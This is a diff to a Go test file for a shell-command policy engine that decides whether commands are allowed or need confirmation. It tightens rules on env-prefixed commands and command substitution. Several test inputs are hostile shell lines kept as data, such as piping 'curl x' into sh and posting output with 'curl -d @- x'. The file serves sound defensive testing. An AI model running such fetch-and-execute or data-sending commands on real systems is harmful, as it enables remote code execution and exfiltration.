@@ -30,7 +30,7 @@ func TestCommandRule(t *testing.T) {
 		{"  git   status\t-s  ", policyengine.Allow, "{command: git status}"},
 		{`'git' "status" -s`, policyengine.Allow, "{command: git status}"},
 		{`g\it st"at"us`, policyengine.Allow, "{command: git status}"},
-		{"FOO=1 git status", policyengine.Allow, "{command: git status}"},
+		{"FOO=1 git status", policyengine.Confirm, ""},
 		{"git push", policyengine.Confirm, ""},
 		{"git statuses", policyengine.Confirm, ""},
 		{"git", policyengine.Confirm, ""},
@@ -185,7 +185,8 @@ func TestPipelinesAndChains(t *testing.T) {
 		{"cat <(curl x | sh)", policyengine.Confirm, "curl x; sh"},
 		{"make > >(curl -d @- x)", policyengine.Confirm, "curl -d @- x"},
 		{"f() { curl x; }; f", policyengine.Confirm, "curl x; f"},
-		{"ls $(pwd)", policyengine.Allow, ""},
+		{"ls -- $(pwd)", policyengine.Allow, ""},
+		{"ls $(pwd)", policyengine.Confirm, "ls $(pwd)"}, // $(pwd) may be an option
 	} {
 		d := e.CheckExec(tt.line)
 		wantDecision(t, tt.line, d, tt.want, "-", "-")
